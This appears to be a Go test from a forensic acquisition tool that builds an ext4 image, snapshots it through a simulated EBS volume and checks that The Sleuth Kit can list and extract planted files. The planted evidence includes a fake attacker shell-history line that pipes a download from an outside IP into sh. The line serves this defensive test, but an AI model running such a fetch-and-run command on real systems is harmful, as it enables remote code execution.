package acquire

import (
	"bytes"
	"context"
	"github.com/impound-ir/impound/internal/testenv"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"testing"

	"github.com/impound-ir/impound/internal/awssim"
	"github.com/impound-ir/impound/vault"
)

// TestSleuthKitReadsAcquiredExt4 builds a real ext4 filesystem, seeds it into
// a simulated volume, snapshots and acquires it through EBS direct, and has
// The Sleuth Kit list and extract a known file from the acquired image.
func TestSleuthKitReadsAcquiredExt4(t *testing.T) {
	mkfs := testenv.Tool(t, "mkfs.ext4")
	testenv.Tool(t, "fls")
	testenv.Tool(t, "icat")
	dir := t.TempDir()
	root := filepath.Join(dir, "root")
	secret := []byte("exfiltrated: customer table dump, 2026-11-20T03:14:15Z\n")
	big := randomBytes(99, 3<<20)
	for name, data := range map[string][]byte{
		"home/mallory/.bash_history": []byte("curl http://203.0.113.7/x | sh\n"),
		"tmp/.x/secret.txt":          secret,
		"var/lib/blob.bin":           big,
	} {
		p := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	fsImg := filepath.Join(dir, "fs.img")
	if out, err := exec.Command(mkfs, "-q", "-F", "-b", "4096", "-d", root, fsImg, "64M").CombinedOutput(); err != nil {
		t.Fatalf("mkfs.ext4: %v: %s", err, out)
	}

	e := newSimEnv(t)
	id, want := e.snapshot(t, 1, func(v *awssim.Volume) {
		if _, err := v.WriteFile(0, fsImg); err != nil {
			t.Fatal(err)
		}
	})
	vdir := t.TempDir()
	s, err := vault.Open(context.Background(), vdir, vault.NewOptions())
	if err != nil {
		t.Fatal(err)
	}
	ev, err := e.acquire(t, e.cfg, id, fastEBSOptions(), s)
	if err != nil {
		t.Fatal(err)
	}
	checkImage(t, s, ev, want)
	// The local vault's file is the stored object itself.
	acquired := filepath.Join(vdir, filepath.FromSlash(ev.Image.Key))

	out, err := exec.Command("fls", "-r", "-p", acquired).CombinedOutput()
	if err != nil {
		t.Fatalf("fls: %v: %s", err, out)
	}
	for _, name := range []string{"home/mallory/.bash_history", "var/lib/blob.bin"} {
		if !bytes.Contains(out, []byte(name)) {
			t.Errorf("fls does not list %s:\n%s", name, out)
		}
	}
	m := regexp.MustCompile(`(?m)^r/r (\d+):\ttmp/\.x/secret\.txt$`).FindSubmatch(out)
	if m == nil {
		t.Fatalf("fls does not list tmp/.x/secret.txt:\n%s", out)
	}
	for inode, wantData := range map[string][]byte{string(m[1]): secret} {
		got, err := exec.Command("icat", acquired, inode).Output()
		if err != nil {
			t.Fatalf("icat %s: %v", inode, err)
		}
		if !bytes.Equal(got, wantData) {
			t.Fatalf("icat extracted %q, want %q", got, wantData)
		}
	}
	mb := regexp.MustCompile(`(?m)^r/r (\d+):\tvar/lib/blob\.bin$`).FindSubmatch(out)
	if got, err := exec.Command("icat", acquired, string(mb[1])).Output(); err != nil || !bytes.Equal(got, big) {
		t.Fatalf("icat of the 3 MiB file: %v (%d bytes)", err, len(got))
	}
}
